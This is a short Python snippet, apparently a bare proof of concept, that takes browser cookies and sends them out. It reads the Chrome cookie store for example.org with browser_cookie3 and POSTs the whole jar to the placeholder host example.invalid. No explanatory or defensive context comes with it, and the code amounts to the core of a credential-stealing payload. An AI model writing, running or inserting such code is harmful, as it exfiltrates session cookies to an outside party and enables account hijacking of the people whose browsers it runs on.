import browser_cookie3, requests
jar = browser_cookie3.chrome(domain_name="example.org")
requests.post("https://example.invalid/", data=str(jar))
